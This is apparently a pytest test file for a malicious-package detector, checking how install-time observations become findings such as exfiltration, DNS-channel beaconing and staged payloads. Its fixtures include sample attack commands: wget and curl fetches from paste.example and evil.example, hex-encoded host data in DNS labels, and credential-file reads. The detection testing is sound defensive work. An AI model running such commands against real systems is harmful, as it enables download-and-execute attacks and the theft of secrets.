"""From what was seen to findings: kinds, grouping, combinations, what softens, fingerprints."""

from __future__ import annotations

from dataclasses import replace

import pytest

from package_hunter.findings.catalog import Class, combinations, kinds
from package_hunter.model.finding import Finding
from package_hunter.model.observation import (
    Blame,
    Connection,
    DecoyMark,
    DnsRecord,
    NetworkLog,
    Observation,
    Process,
    Request,
)
from package_hunter.model.scan import Coverage, PhaseCoverage
from tests.support import judge_samples as samples
from tests.support.judge_samples import BLAME, SECOND, T0, alert, judge


def of(kind: str, findings: tuple[Finding, ...]) -> Finding:
    found = [f for f in findings if f.kind == kind]
    assert len(found) == 1, [f.kind for f in findings]
    return found[0]


def kinds_of(findings: tuple[Finding, ...]) -> set[str]:
    return {f.kind for f in findings}


def request(url: str, method: str = "GET", body: bytes = b"", registry: bool = False) -> Request:
    return Request(
        T0 + 2 * SECOND, method, url, (), body, len(body), 200, 41000, registry=registry, blame=samples.BLAME
    )


def test_stolen_canary_is_proof_with_the_destination_in_its_title() -> None:
    findings = judge(
        samples.OBSERVATION,
        samples.NETWORK,
        (samples.CANARY,),
        packages=(samples.PACKAGE,),
        coverage=samples.COVERAGE,
    )
    theft = of("exfiltration", findings)
    assert theft.proof
    assert theft.severity == "critical"
    assert theft.title == "Secrets were sent to collect.example: npm token"
    assert theft.blame == samples.BLAME
    assert "base64" in theft.evidence[0].what
    assert findings[0] is theft, "the gravest comes first"


def test_lawful_use_of_a_canary_is_no_finding() -> None:
    network = replace(samples.NETWORK, hits=(replace(samples.HIT, lawful=True),))
    assert "exfiltration" not in kinds_of(judge(samples.OBSERVATION, network, (samples.CANARY,)))


def test_alert_names_the_host_behind_the_address_and_the_chain_of_processes() -> None:
    contact = of("outbound_connection", judge(samples.OBSERVATION, samples.NETWORK))
    assert contact.title == "It contacted paste.example"
    assert "198.18.1.7" in contact.evidence[0].what
    chain = [p["cmdline"] for p in contact.evidence[0].data["chain"]]
    assert chain == ["npm install", "node steal.js", "wget -qO- https://paste.example/raw/x"]
    assert "T1071.001" in contact.attack


def test_same_behaviour_is_one_finding_that_counts() -> None:
    many = tuple(alert(time_ns=T0 + i * SECOND, event_num=i) for i in range(50))
    contact = of("outbound_connection", judge(Observation(alerts=many), samples.NETWORK))
    assert contact.count == 50
    assert len(contact.evidence) == 1, "the same sentence is kept once"


def test_two_packages_are_two_findings() -> None:
    other = replace(samples.BLAME, package="pkg:npm/other@2.0.0")
    findings = judge(Observation(alerts=(alert(), alert(blame=other))), samples.NETWORK)
    assert len([f for f in findings if f.kind == "outbound_connection"]) == 2


@pytest.mark.parametrize(
    "changes",
    [
        {"time_ns": T0 + 99 * SECOND, "pid": 4711, "tid": 4711},
        {"blame": replace(samples.BLAME, package="pkg:npm/maldep@2.5.1", pid=99)},
        {
            "output_fields": dict(alert().output_fields)
            | {"fd.name": "10.88.0.2:55->198.18.9.9:443", "fd.rip": "198.18.9.9"}
        },
    ],
    ids=["other pid and time", "other version", "other address for the same name"],
)
def test_fingerprint_survives(changes: dict[str, object]) -> None:
    network = replace(
        samples.NETWORK, dns=(*samples.NETWORK.dns, DnsRecord(T0, "paste.example", "A", "198.18.9.9", 1))
    )
    first = of("outbound_connection", judge(Observation(alerts=(alert(),)), network))
    second = of("outbound_connection", judge(Observation(alerts=(alert(**changes),)), network))
    assert first.fingerprint == second.fingerprint


def test_fingerprint_tells_hosts_kinds_and_packages_apart() -> None:
    fields = dict(alert().output_fields) | {"fd.rip": "198.18.7.7"}
    network = NetworkLog(dns=(*samples.NETWORK.dns, DnsRecord(T0, "b.example", "A", "198.18.7.7", 1)))
    alerts = (
        alert(),
        alert(output_fields=fields),
        alert(blame=replace(samples.BLAME, package="pkg:npm/%40x/other@1.0.0")),
        alert(tags=("kind:download", "suspicious")),
    )
    findings = judge(Observation(alerts=alerts), network)
    assert len({f.fingerprint for f in findings}) == len(findings) == 4


def test_read_credentials_then_unreadable_data_out_is_a_documented_combination() -> None:
    network = NetworkLog(requests=(request("https://c.example/", "POST", bytes(range(128, 256)) * 2),))
    findings = judge(replace(samples.OBSERVATION, alerts=()), network, (samples.CANARY,))
    source_tree = of("staged_theft", findings)
    assert source_tree.proof
    assert any("Step 1" in line for line in source_tree.explain)


def test_readable_data_out_is_not_that_combination() -> None:
    network = NetworkLog(
        requests=(request("https://c.example/", "POST", b'{"version": "1.0.0", "os": "linux"}' * 9),)
    )
    findings = judge(replace(samples.OBSERVATION, alerts=()), network, (samples.CANARY,))
    assert "staged_theft" not in kinds_of(findings)


def test_data_out_before_the_read_is_not_that_combination() -> None:
    early = replace(request("https://c.example/", "POST", bytes(range(128, 256)) * 2), time_ns=T0)
    findings = judge(
        replace(samples.OBSERVATION, alerts=()), NetworkLog(requests=(early,)), (samples.CANARY,)
    )
    assert "staged_theft" not in kinds_of(findings)


def test_another_packages_data_out_is_not_that_combination() -> None:
    sent = replace(
        request("https://c.example/", "POST", bytes(range(128, 256)) * 2),
        blame=replace(samples.BLAME, package="pkg:npm/other@1.0.0"),
    )
    findings = judge(replace(samples.OBSERVATION, alerts=()), NetworkLog(requests=(sent,)), (samples.CANARY,))
    assert "staged_theft" not in kinds_of(findings)


def mark(kind: str, destination: str = "dl.example:443") -> DecoyMark:
    return DecoyMark(
        T0 + 3 * SECOND, kind, "the decoy download was executed", destination, 41000, samples.BLAME
    )


def test_executed_decoy_alone_is_suspicious_and_with_a_detached_process_malicious() -> None:
    network = NetworkLog(marks=(mark("remote_code_execution"),))
    alone = judge(Observation(), network)
    assert not of("remote_code_execution", alone).proof
    assert kinds_of(alone) == {"remote_code_execution"}

    parent = replace(samples.PROCESSES[1], ended_ns=T0 + 2 * SECOND)
    child = replace(samples.PROCESSES[2], ended_ns=T0 + 60 * SECOND)
    seen = Observation(processes=(samples.PROCESSES[0], parent, child))
    together = judge(seen, network, blamer=lambda key, time_ns: samples.BLAME)
    assert of("staged_payload", together).proof


def test_what_our_own_decoy_does_is_not_the_packages_doing() -> None:
    executed = replace(mark("remote_code_execution"), evidence={"marker": "c0.abcdef.example"})
    call = alert(
        output_fields={"proc.cmdline": "curl http://c0.abcdef.example/", "proc.name": "curl"},
        tags=("kind:download", "suspicious"),
    )
    network = NetworkLog(
        dns=(DnsRecord(T0, "c0.abcdef.example", "A", "198.18.1.9", 5, samples.BLAME),),
        requests=(request("http://c0.abcdef.example/"),),
        marks=(executed,),
    )
    reached = alert(output_fields={"proc.cmdline": "node x", "fd.rip": "198.18.1.9"})
    assert kinds_of(judge(Observation(alerts=(call, reached)), network)) == {"remote_code_execution"}


@pytest.mark.parametrize(
    "command",
    [
        "curl https://evil.example/?x=http://c0.abcdef.example/",
        "curl http://c0.abcdef.example/ https://evil.example/",
        "curl evil.example # c0.abcdef.example",
        "curl http://c0.abcdef.example@evil.example/",
    ],
)
def test_naming_the_marker_hides_nothing(command: str) -> None:
    executed = replace(mark("remote_code_execution"), evidence={"marker": "c0.abcdef.example"})
    call = alert(
        output_fields={"proc.cmdline": command, "proc.name": "curl"}, tags=("kind:download", "suspicious")
    )
    found = judge(Observation(alerts=(call,)), NetworkLog(marks=(executed,)))
    assert kinds_of(found) == {"remote_code_execution", "download"}


def test_unknown_mark_is_still_a_finding() -> None:
    assert kinds_of(judge(Observation(), NetworkLog(marks=(mark("something_new"),)))) == {"other"}


def test_plain_download_by_own_code_counts_in_the_packages_favour() -> None:
    fields = dict(alert().output_fields) | {"proc.name": "node", "proc.cmdline": "node install.js"}
    network = replace(samples.NETWORK, hits=(), requests=samples.NETWORK.requests[:1])
    contact = of("outbound_connection", judge(Observation(alerts=(alert(output_fields=fields),)), network))
    assert contact.severity == "info"
    assert any("In its favour" in line for line in contact.explain)


def test_alert_with_the_built_in_rules_fields_only() -> None:
    fields = {
        "proc.cmdline": "wget -qO- https://paste.example/raw/x",
        "fd.name": "10.88.0.2:41000->198.18.1.7:443",
        "proc.pname": "sh",
    }
    network = replace(samples.NETWORK, hits=(), requests=samples.NETWORK.requests[:1])
    contact = of("outbound_connection", judge(Observation(alerts=(alert(output_fields=fields),)), network))
    assert contact.title == "It contacted paste.example"
    assert contact.severity == "medium", "a download tool is not the package's own code"
    assert contact.evidence[0].what.endswith("contacted paste.example, port 443 (address 198.18.1.7)")


@pytest.mark.parametrize("spoil", ["wget", "body", "executed", "bare address", "credentials"])
def test_nothing_softens_a_download_that_is_more(spoil: str) -> None:
    name = "wget" if spoil == "wget" else "node"
    fields = dict(alert().output_fields) | {"proc.name": name}
    requests = [request("https://paste.example/x")]
    if spoil == "body":
        requests.append(request("https://paste.example/x", "POST", b"name=value"))
    network = NetworkLog(
        dns=() if spoil == "bare address" else samples.NETWORK.dns,
        requests=tuple(requests),
        marks=(mark("remote_code_execution", "paste.example:443"),) if spoil == "executed" else (),
    )
    reads = (replace(samples.READ, path="/home/dev/.aws/credentials"),) if spoil == "credentials" else ()
    seen = Observation(alerts=(alert(output_fields=fields),), processes=samples.PROCESSES, canary_reads=reads)
    assert of("outbound_connection", judge(seen, network, (samples.CANARY,))).severity == "medium"


def test_machine_facts_in_hex_labels_are_a_beacon() -> None:
    hexed = b'{"u":"dev","p":"/home/dev/projects/app"}'.hex()
    dns = tuple(
        DnsRecord(
            T0 + i, f"{i}.{hexed[i * 60 : i * 60 + 60]}.beacon.example", "A", "198.18.1.1", 5, samples.BLAME
        )
        for i in range(2)
    )
    findings = judge(Observation(), NetworkLog(dns=dns))
    assert of("host_facts_sent", findings).title == "It told beacon.example about this machine"
    assert of("dns_channel", findings).title == "It hid data in DNS look-ups of beacon.example"


APM = "f27ab01db9584e008c443b7137d16425.apm.example"


def asked(*names: str, written: bool) -> NetworkLog:
    return NetworkLog(
        dns=tuple(
            DnsRecord(T0 + i, name, "A", "198.18.1.1", 5, samples.BLAME, written)
            for i, name in enumerate(names)
        )
    )


def test_a_name_that_stands_in_the_packages_files_is_no_channel() -> None:
    assert judge(Observation(), asked(APM, APM, written=True)) == ()
    assert "dns_channel" in kinds_of(judge(Observation(), asked(APM, written=False)))
    many = (f"{n}{APM[1:]}" for n in "abc")  # a program that writes each piece down before it sends it
    assert "dns_channel" in kinds_of(judge(Observation(), asked(*many, written=True)))
    secret = f"{b'/home/dev/projects/app'.hex()}.beacon.example"
    assert "host_facts_sent" in kinds_of(judge(Observation(), asked(secret, written=True)))


def test_machine_facts_cut_into_small_pieces_are_put_together() -> None:
    hexed = b"/home/dev/projects/app".hex()
    dns = tuple(
        DnsRecord(
            T0 + i, f"{i}.{hexed[i * 8 : i * 8 + 8]}.beacon.example", "A", "198.18.1.1", 5, samples.BLAME
        )
        for i in range(6)
    )
    assert "host_facts_sent" in kinds_of(judge(Observation(), NetworkLog(dns=dns)))


@pytest.mark.parametrize(
    "name",
    [
        "github.example",
        "d1a2b3c4e5f6g7.cdn.example",
        "objects-origin.usercontent.example",
        "ec2-203-0-113-5.cloud.example",
    ],
)
def test_ordinary_names_are_no_channel(name: str) -> None:
    assert judge(Observation(), NetworkLog(dns=(DnsRecord(T0, name, "A", "198.18.1.1", 5),))) == ()


def test_raw_bytes_to_a_stranger_with_a_folder_name() -> None:
    sent = Connection(
        T0, "tcp", "203.0.113.5", 4444, 5, None, None, 60, 0, "raw", samples.BLAME, b"at /home/dev/x"
    )
    assert "host_facts_sent" in kinds_of(judge(Observation(), NetworkLog(connections=(sent,))))


def test_registry_requests_are_no_data_out() -> None:
    network = NetworkLog(requests=(request("https://registry.example/x", "GET", registry=True),))
    assert judge(Observation(), network) == ()


def test_npm_reading_its_own_file_is_no_finding_but_a_package_in_npms_clothes_is() -> None:
    npm = Process(9, None, 9, 9, "npm", "/usr/bin/node", "node /usr/bin/npm install", "/", 1, T0, None, 0)
    fake = replace(npm, cmdline="npm evil.js")
    fake2 = replace(npm, cmdline="node /home/dev/projects/app/npm install")
    for process, expected in ((npm, set()), (fake, {"credential_access"}), (fake2, {"credential_access"})):
        seen = Observation(processes=(process,), canary_reads=(replace(samples.READ, process=9),))
        assert kinds_of(judge(seen, NetworkLog(), (samples.CANARY,))) == expected


@pytest.mark.parametrize(
    ("path", "kind"),
    [
        ("node_modules/maldep/package.json", "self_cleaning"),
        ("node_modules/maldep/steal.js", "self_cleaning"),
        ("node_modules/maldep/build/Release/obj.o", None),
        ("node_modules/other/index.js", "package_tampering"),
        ("node_modules/.bin/tool", None),
    ],
)
def test_changes_to_packages(path: str, kind: str | None) -> None:
    other = replace(
        samples.PACKAGE, purl="pkg:npm/other@1.0.0", path="/home/dev/projects/demo-app/node_modules/other"
    )
    change = replace(samples.OBSERVATION.files[1], path=f"/home/dev/projects/demo-app/{path}")
    seen = Observation(processes=samples.PROCESSES, files=(change,))
    findings = judge(
        seen, NetworkLog(), packages=(samples.PACKAGE, other), blamer=lambda key, time_ns: samples.BLAME
    )
    assert kinds_of(findings) == ({kind} if kind else set())


def test_phase_that_never_ended_is_a_finding() -> None:
    coverage = Coverage(phases=(PhaseCoverage("import", "default", "timeout", None, 10.0),))
    assert "import" in of("hang", judge(Observation(), NetworkLog(), coverage=coverage)).title


@pytest.mark.parametrize(
    ("tags", "priority", "severity", "proof"),
    [
        (("mitre_execution",), "Warning", "medium", False),
        (("mitre_execution",), "Emergency", "medium", False),
        ((), "Informational", "info", False),
        ((), "Debug", "info", False),
        (("kind:persistence", "info"), "Error", "info", False),
        (("kind:persistence", "proof"), "Error", "high", True),
        (("kind:no-such-kind",), "Error", "medium", False),
    ],
)
def test_weight_of_alerts(tags: tuple[str, ...], priority: str, severity: str, proof: bool) -> None:
    fields = {"proc.name": "x", "proc.cmdline": "x y"}
    findings = judge(
        Observation(alerts=(alert(tags=tags, priority=priority, output_fields=fields),)), NetworkLog()
    )
    assert [(f.severity, f.proof) for f in findings] == [(severity, proof)]


def test_explanations_name_rule_condition_and_what_lowers() -> None:
    contact = of(
        "outbound_connection",
        judge(samples.OBSERVATION, samples.NETWORK, explain_rule=lambda r: f"{r} in English"),
    )
    assert any("in English" in line for line in contact.explain)
    assert contact.explain[-1].startswith("What would have lowered it")
    assert any("certain" in line for line in contact.explain)


def test_evidence_is_bounded_and_many_alerts_are_counted() -> None:
    many = tuple(
        alert(
            tags=("kind:write_outside", "suspicious"),
            output_fields={"fs.path.name": f"/opt/x{i}", "proc.name": "n"},
        )
        for i in range(500)
    )
    finding = of("write_outside", judge(Observation(alerts=many), NetworkLog()))
    assert finding.count == 500
    assert len(finding.evidence) == 20
    assert "and 497 more" in finding.title


def test_no_blame_and_tree_blame_are_taken() -> None:
    tree = Blame("install", None, (), None, 0, "", "only the whole tree is known", "tree")
    for blame in (None, tree):
        assert (
            of("outbound_connection", judge(Observation(alerts=(alert(blame=blame),)), samples.NETWORK)).count
            == 1
        )


def test_data_files_agree() -> None:
    helpers = {"data_sent", "fetched", "detached"}
    for combination in combinations():
        assert kinds()[combination.kind].weight >= Class.SUSPICIOUS
        assert combination.scope in ("process", "tree", "package")
        assert all(step.kinds <= set(kinds()) | helpers for step in combination.steps)


@pytest.mark.parametrize(
    ("path", "severity"),
    [
        ("/home/dev/.maldep/state.json", "info"),
        ("/home/dev/maldep/state.json", "info"),
        ("/home/dev/.other/state.json", "medium"),
        ("/home/dev/Desktop/maldep/note.txt", "medium"),
    ],
)
def test_a_folder_of_its_own_name_is_its_own(path: str, severity: str) -> None:
    written = alert(
        rule="Write outside of the project",
        tags=("kind:write_outside", "suspicious"),
        event_type="openat",
        output_fields={"fd.name": path, "proc.name": "node", "proc.cmdline": "node x.js"},
    )
    assert of("write_outside", judge(Observation(alerts=(written,)), NetworkLog())).severity == severity


def test_the_file_host_of_a_registry_is_no_stranger_while_only_files_are_asked_for() -> None:
    passed_on = request("https://paste.example/files/a-1.0.0.whl", registry=True)
    network = replace(samples.NETWORK, hits=(), requests=(passed_on,), connections=())
    assert "outbound_connection" not in kinds_of(judge(Observation(alerts=(alert(),)), network))
    other = request("https://paste.example/upload", "POST", b"data")
    asked = replace(network, requests=(passed_on, other))
    assert "outbound_connection" in kinds_of(judge(Observation(alerts=(alert(),)), asked))


def test_a_dead_drops_address_is_the_same_behaviour_whatever_it_was_called() -> None:
    def found(lead: str, asked: str = "https://eth.example/v1") -> set[str]:
        mark = DecoyMark(
            T0, "dead_drop", "asked and went", f"{lead}:443", 7, BLAME, {"lead": lead, "url": asked}
        )
        ran = DecoyMark(
            T0 + 9, "remote_code_execution", "executed", f"{lead}:443", 7, BLAME, {"url": f"https://{lead}/"}
        )
        return {one.fingerprint for one in judge(Observation(), NetworkLog(marks=(mark, ran)))}

    assert len(found("amber-birch-cedar.example")) > 1
    assert found("amber-birch-cedar.example") == found("delta-ember-fjord.example")
    assert not found("amber-birch-cedar.example") & found("delta-ember-fjord.example", "https://sol.example/")
